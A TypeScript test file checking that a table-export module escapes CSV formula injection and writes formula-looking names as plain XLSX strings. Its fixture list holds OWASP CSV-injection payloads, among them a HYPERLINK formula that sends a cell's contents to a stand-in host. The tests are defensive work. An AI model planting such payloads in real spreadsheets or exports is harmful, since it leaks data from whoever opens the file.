import { describe, expect, it } from 'vitest';
import { loadExcel, toCsv, toXlsx } from './table-files.ts';

/** OWASP « CSV Injection »: cells a spreadsheet would run as formulas. */
const HOSTILE = ['=HYPERLINK("http://evil.test/?x="&A1,"clic")', '+1+1', '-2+3', '@SUM(1)', '\tA', '\rB'];

describe('table files', () => {
  it('writes a CSV cell that a spreadsheet would run as a formula with a leading quote (papaparse escapeFormulae)', () => {
    const csv = toCsv(
      HOSTILE.map((name) => [name, 'Fournisseur']),
      ['nom', 'fournisseur'],
    );
    const lines = csv.replace(/^\uFEFF/, '').split('\r\n');
    expect(lines[0]).toBe('nom;fournisseur');
    expect(lines[1]).toBe(`"'=HYPERLINK(""http://evil.test/?x=""&A1,""clic"")";Fournisseur`);
    for (const index of HOSTILE.keys()) expect(lines[index + 1]!.replace(/^"/, '')).toMatch(/^'/);
    // Ordinary text is left as it is.
    expect(toCsv([['Pâte feuilletée', '12,50']], ['nom', 'prix'])).toContain('Pâte feuilletée;12,50');
  });

  it('keeps XLSX cells text: a formula-looking name is a string value, never a formula', async () => {
    const bytes = await toXlsx([[HOSTILE[0]!, 'x']], 'produits', ['nom', 'fournisseur']);
    const ExcelJS = await loadExcel();
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(bytes as never);
    const cell = book.worksheets[0]!.getRow(2).getCell(1);
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.value).toBe(HOSTILE[0]);
  });
});
